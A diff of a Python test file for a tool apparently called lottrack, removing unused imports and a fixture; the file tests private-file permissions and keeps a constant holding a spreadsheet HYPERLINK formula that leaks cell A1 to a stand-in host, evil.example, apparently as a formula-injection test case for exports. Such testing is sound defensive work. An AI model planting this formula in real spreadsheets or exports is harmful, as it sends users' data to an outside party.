@@ -8,7 +8,6 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import stat
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -17,7 +16,6 @@ from typer.testing import CliRunner
 from lottrack.cli import app
 from lottrack.demo.scenario import Scenario
 from lottrack.kernel.private_files import FileRefused, private_dir, write_private
-from lottrack.records.permissions import CurrentUser
 from lottrack.storage.backup import backup
 from lottrack.storage.db import Database
 from lottrack.storage.models import utcnow
@@ -25,7 +23,6 @@ from lottrack.trial import export
 from lottrack.trial.allocation import PLACEBO_FIRST
 from lottrack.views.documents import signing
 from tests.conftest import PASSWORD
-from tests.factories import make_scenario
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -33,11 +30,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def mode(path: Path) -> str:
     return oct(stat.S_IMODE(path.stat().st_mode))
-
-
-@pytest.fixture
-def sc(db: Database, admin: CurrentUser, make_user: Callable[..., CurrentUser]) -> Scenario:
-    return make_scenario(db, admin, make_user)
 
 
 def test_a_private_file_is_0600_in_a_new_0700_folder(tmp_path: Path) -> None:
